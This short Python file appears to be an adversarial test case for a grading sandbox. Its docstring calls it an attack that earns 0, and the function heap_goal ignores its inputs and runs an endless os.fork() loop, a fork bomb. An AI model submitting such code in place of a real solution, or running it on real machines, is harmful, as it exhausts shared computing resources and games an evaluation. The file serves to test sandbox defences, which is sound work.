"""Attack: a fork bomb inside the tested function. Earns 0: fork fails at the process limit,
each call times out, and every process it made dies with its sandbox."""
import os


def heap_goal(heap_marked, stack_bytes, globals_bytes, gogc):
    while True:
        try:
            os.fork()
        except OSError:
            pass
